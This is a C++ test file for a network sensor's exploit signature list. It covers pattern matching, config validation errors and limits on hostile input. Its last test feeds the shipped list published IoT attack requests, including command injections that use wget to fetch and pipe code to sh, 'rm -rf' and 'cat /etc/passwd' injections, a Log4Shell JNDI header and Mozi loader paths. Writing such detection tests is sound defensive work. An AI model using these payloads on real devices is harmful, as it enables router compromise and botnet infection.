// exploits.toml: what is on it, what a mistake in it is answered with, and how words are found.
#include "sensor/content_patterns.hpp"
#include "wire/data_directory.hpp"
#include "wire/settings.hpp"

#include <doctest/doctest.h>

#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <string>

using namespace linnet;

namespace {

const std::filesystem::path list_path =
    std::filesystem::temp_directory_path() / ("linnet-exploits-" + std::to_string(::getpid()));

ContentPatterns read(const std::string& text) {
    std::ofstream{list_path, std::ios::binary} << text;
    auto patterns = ContentPatterns::read(list_path);
    std::filesystem::remove(list_path);
    return patterns;
}

std::string refusal(const std::string& text) {
    try {
        (void)read(text);
    } catch (const SettingsError& error) {
        std::filesystem::remove(list_path);
        return std::string{error.what()}.substr(list_path.string().size());
    }
    return "accepted";
}

std::string entry(const std::string& more, const std::string& number = "1") {
    return "[[entry]]\nnumber = " + number + "\nkind = \"exploit\"\nwhat = \"x\"\norigin = \"y\"\n" + more;
}

std::uint16_t number_in(const ContentPatterns& patterns, PatternPlace place, std::string_view text,
                        std::string_view method = {}) {
    const auto* found = patterns.match(place, text, method);
    return found == nullptr ? 0 : found->number;
}

}  // namespace

TEST_CASE("a matcher finds every word, also inside and across others, whatever the case") {
    LiteralMatcher matcher;
    LiteralMatcher::Id id = 0;
    for (const auto* word : {"he", "she", "his", "hers", "HE"}) CHECK(matcher.add(word, id));
    CHECK(matcher.size() == 4);
    matcher.build();
    std::vector<LiteralMatcher::Id> found;
    matcher.scan("uSHErs", [&](LiteralMatcher::Id word) {
        found.push_back(word);
        return false;
    });
    CHECK(found == std::vector<LiteralMatcher::Id>{1, 0, 3});
    LiteralMatcher empty;
    empty.build();
    empty.scan("anything", [](LiteralMatcher::Id) -> bool {
        FAIL("there is no word");
        return true;
    });
}

TEST_CASE("words that are nothing but repetition cost a look-up for each byte of the text") {
    LiteralMatcher matcher;
    LiteralMatcher::Id id = 0;
    for (std::size_t length = 1; length <= 128; ++length) CHECK(matcher.add(std::string(length, 'a') + "b", id));
    CHECK_FALSE(matcher.add(std::string(LiteralMatcher::max_bytes, 'c'), id));
    matcher.build();
    const std::string text(1'000'000, 'a');
    const auto begin = std::chrono::steady_clock::now();
    std::size_t count = 0;
    matcher.scan(text, [&](LiteralMatcher::Id) { return ++count == 0; });
    CHECK(count == 0);
    CHECK(std::chrono::steady_clock::now() - begin < std::chrono::seconds{1});
}

TEST_CASE("all of `contains`, one of `any`, the method, and the beginning of a stream") {
    const auto patterns = read(entry("where = \"http-uri\"\nmethod = \"POST\"\ncontains = [\"/a\", \"/b\"]\n") +
                               entry("where = \"http-uri\"\ncontains = \"/c\"\nany = [\"x1\", \"x2\"]\n", "2") +
                               entry("where = \"stream\"\nstarts = \"HELO!\"\n", "3") +
                               entry("where = \"stream\"\nstarts = \"HELP\"\ncontains = \"me\"\n", "4"));
    const auto uri = PatternPlace::http_uri;
    CHECK(patterns.size() == 4);
    CHECK(number_in(patterns, uri, "/b/A", "POST") == 1);
    CHECK(number_in(patterns, uri, "/b/a", "GET") == 0);
    CHECK(number_in(patterns, uri, "/b", "POST") == 0);
    CHECK(number_in(patterns, uri, "/c?X2", "GET") == 2);
    CHECK(number_in(patterns, uri, "/c?x3", "GET") == 0);
    CHECK(number_in(patterns, PatternPlace::http_body, "/a/b/c x1") == 0);
    CHECK(number_in(patterns, PatternPlace::stream, "HELO!") == 3);
    CHECK(number_in(patterns, PatternPlace::stream, " HELO!") == 0);
    CHECK(number_in(patterns, PatternPlace::stream, "helo!") == 0);
    CHECK(number_in(patterns, PatternPlace::stream, "HELP me") == 4);
    CHECK(patterns.begins(PatternPlace::stream, "HELP"));
    CHECK_FALSE(patterns.begins(PatternPlace::stream, "HEL"));
    CHECK_FALSE(patterns.begins(PatternPlace::stream_answer, "HELP"));
}

TEST_CASE("what is complete first wins, so that a longer text says the same") {
    const auto patterns = read(entry("where = \"http-body\"\ncontains = [\"one\", \"two\"]\n") +
                               entry("where = \"http-body\"\ncontains = \"mid\"\n", "2"));
    const std::string text = "one mid two";
    for (std::size_t length = 0; length <= text.size(); ++length)
        CHECK(number_in(patterns, PatternPlace::http_body, std::string_view{text}.substr(0, length)) ==
              (length < 7 ? 0 : 2));
}

TEST_CASE("mistakes are named with their line") {
    CHECK(refusal("") == ":1: there is no list \"entry\"");
    CHECK(refusal("entri = 1\n") == ":1: unknown key \"entri\"");
    CHECK(refusal(entry("where = \"http-uri\"\n")) == ":1: \"contains\" is missing");
    CHECK(refusal(entry("where = \"nowhere\"\ncontains = \"abc\"\n")) == ":6: \"where\" is none of those that exist");
    CHECK(refusal(entry("where = \"telnet\"\nmethod = \"GET\"\ncontains = \"abc\"\n")) ==
          ":7: \"method\" is for HTTP alone");
    CHECK(refusal(entry("where = \"telnet\"\nstarts = \"abcd\"\n")) == ":7: \"starts\" is for streams and datagrams alone");
    CHECK(refusal(entry("where = \"stream\"\ncontains = \"abc\"\n")).find("in at least 3 bytes") != std::string::npos);
    CHECK(refusal(entry("where = \"telnet\"\ncontains = \"a\"\n")) == ":7: \"contains\" must have words of 2 to 128 bytes");
    CHECK(refusal(entry("where = \"telnet\"\ncontains = \"\"\n")) == ":7: \"contains\" is empty");
    CHECK(refusal(entry("where = \"telnet\"\ncontains = [1]\n")) == ":7: \"contains\" must be text in quotes");
    CHECK(refusal(entry("where = \"telnet\"\ncontains = \"abc\"\nregex = \"(a+)+\"\n")) == ":8: unknown key \"regex\"");
    CHECK(refusal(entry("where = \"datagram\"\ncontains = \"abc\"\n")) ==
          ":1: \"port\" is missing: where the datagram is sent to");
    CHECK(refusal(entry("where = \"stream\"\nport = 7\nstarts = \"abc\"\n")) == ":7: \"port\" is for datagrams alone");
    for (const char* port : {"0", "65536", "\"7\"", "[7]"})
        CHECK(refusal(entry("where = \"datagram\"\nport = " + std::string{port} + "\ncontains = \"abc\"\n"))
                  .starts_with(":7: \"port\" must be"));
    const std::string good = "where = \"telnet\"\ncontains = \"abc\"\n";
    CHECK(refusal(entry(good, "0")) == ":2: \"number\" must be a whole number from 1 to 65535");
    CHECK(refusal(entry(good) + entry(good)) == ":8: number 1 is taken");
    CHECK(refusal(std::string("\0\xff\x7f", 3)) != "accepted");
}

TEST_CASE("a hostile list is refused before it costs anything") {
    const auto begin = std::chrono::steady_clock::now();
    CHECK(refusal(std::string(5'000'000, '#')) == ":0: is larger than 4 MiB");
    std::string many;
    for (int i = 1; i <= 3000; ++i)
        many += entry("where = \"telnet\"\ncontains = \"abc" + std::to_string(i) + "\"\n", std::to_string(i));
    CHECK(refusal(many).ends_with("has more than 2048 entries"));
    std::string long_words;
    for (int i = 1; i <= 300; ++i)
        long_words += entry("where = \"telnet\"\ncontains = \"" + std::to_string(i) + std::string(120, 'a') + "\"\n",
                            std::to_string(i));
    CHECK(refusal(long_words).ends_with("is too much: all words together are at most 24 KiB"));
    CHECK(refusal("entry = " + std::string(100'000, '[')).starts_with(":1: "));
    CHECK_THROWS_AS((void)ContentPatterns::read("/dev/zero"), SettingsError);
    CHECK_THROWS_AS((void)ContentPatterns::read("/nowhere/exploits.toml"), SettingsError);
    CHECK(std::chrono::steady_clock::now() - begin < std::chrono::seconds{5});
}

TEST_CASE("the list that is shipped: published requests are found, the devices' own pages are not") {
    const auto patterns = ContentPatterns::read(signatures_directory() / "exploits.toml");
    CHECK(patterns.size() > 80);
    const auto uri = PatternPlace::http_uri, body = PatternPlace::http_body, header = PatternPlace::http_header;
    CHECK(number_in(patterns, uri, "/ctrlt/DeviceUpgrade_1", "POST") == 1);
    CHECK(number_in(patterns, body, "<NewStatusURL>$(/bin/busybox wget -g 198.51.100.7 -l /tmp/x -r /x)</NewStatusURL>") ==
          2);
    CHECK(number_in(patterns, body, "<NewInternalClient>`cd /var;wget http://198.51.100.7/x`</NewInternalClient>") == 3);
    CHECK(number_in(patterns, body, "<NewInternalClient>192.168.1.5</NewInternalClient>") == 0);
    CHECK(number_in(patterns, body, "<NewNTPServer1>`cd /tmp;rm x`</NewNTPServer1>") == 4);
    CHECK(number_in(patterns, body, "<NewNTPServer1>pool.ntp.org</NewNTPServer1>") == 0);
    CHECK(number_in(patterns, header,
                    "SOAPAction: \"http://purenetworks.com/HNAP1/`cd /tmp && wget http://198.51.100.7`\"\r\n") == 8);
    CHECK(number_in(patterns, header, "SOAPAction: \"http://purenetworks.com/HNAP1/Login\"\r\n") == 0);
    CHECK(number_in(patterns, uri, "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm -rf /tmp/*&curpath=/", "GET") == 9);
    CHECK(number_in(patterns, uri, "/setup.cgi?next_file=basic.htm&todo=save", "GET") == 0);
    CHECK(number_in(patterns, uri, "/shell?cd /tmp;rm -rf *;wget http://198.51.100.7/jaws", "GET") != 0);
    CHECK(number_in(patterns, uri, "/shell?lang=en", "GET") == 0);
    CHECK(number_in(patterns, body, "<?xml version='1.0'?><language>$(id>webLib/x)</language>", "PUT") == 51);
    CHECK(number_in(patterns, body, "<?xml version='1.0'?><language>en</language>", "PUT") == 0);
    CHECK(number_in(patterns, body, "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget http://x/y") == 7);
    CHECK(number_in(patterns, body, "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=192.168.1.1") == 0);
    CHECK(number_in(patterns, uri, "/login.cgi?cli=multilingual show';cat /etc/passwd'$", "GET") == 14);
    CHECK(number_in(patterns, uri, "/login.cgi?cli=en", "GET") == 0);
    CHECK(number_in(patterns, body, "C1=ON&cmd=cgi_ntp_time&f_ntp_server=`wget -qO- http://198.51.100.7/x|sh`") == 48);
    CHECK(number_in(patterns, body, "C1=ON&cmd=cgi_ntp_time&f_ntp_server=pool.ntp.org") == 0);
    CHECK(number_in(patterns, body, "action=login&keyPath='\nbusybox${IFS}wget&loginUser=a&loginPwd=a") == 26);
    CHECK(number_in(patterns, body, "operation=write&country=$(id)") == 37);
    CHECK(number_in(patterns, body, "operation=write&country=DE") == 0);
    CHECK(number_in(patterns, uri, "/board.cgi?cmd=cd /tmp;rm -rf *;wget http://198.51.100.7/Mozi.a", "GET") == 55);
    CHECK(number_in(patterns, uri, "/language/Swedish${IFS}&&wget${IFS}-O-${IFS}http://198.51.100.7|sh&&tar${IFS}/string.js",
                    "GET") == 56);
    CHECK(number_in(patterns, body, "ttcp_num=2&ttcp_size=2&ttcp_ip=-h `(busybox wget -O- http://198.51.100.7/x)|sh`") ==
          13);
    CHECK(number_in(patterns, uri, "/cgi-bin/config.exp", "GET") == 36);
    CHECK(number_in(patterns, uri, "/cgi-bin/config.exp", "POST") == 0);
    CHECK(number_in(patterns, uri, "/gena.cgi?service=`busybox wget -O- http://198.51.100.7/x|sh;`", "SUBSCRIBE") == 39);
    CHECK(number_in(patterns, uri, "/gena.cgi?service=WANIPConn1", "SUBSCRIBE") == 0);
    CHECK(number_in(patterns, body, "ip=1&host=a;wget -qO- http://198.51.100.7/x|sh") == 153);
    CHECK(number_in(patterns, PatternPlace::stream, "\x13OpenTelnet:OpenOnce") == 73);
    CHECK(number_in(patterns, header, "User-Agent: ${jndi:ldap://198.51.100.7/a}\r\n") == 103);
    CHECK(number_in(patterns, PatternPlace::telnet, "/bin/busybox wget http://198.51.100.7/bins/x.mips -O - > x") == 204);
    CHECK(number_in(patterns, PatternPlace::telnet, "echo -ne '\\x7f\\x45\\x4c\\x46\\x01' > x") == 206);
    CHECK(number_in(patterns, PatternPlace::telnet, "wget http://example.com/readme.txt") == 0);
    CHECK(number_in(patterns, PatternPlace::stream, "BUILD MIPSEL\n") == 250);
}
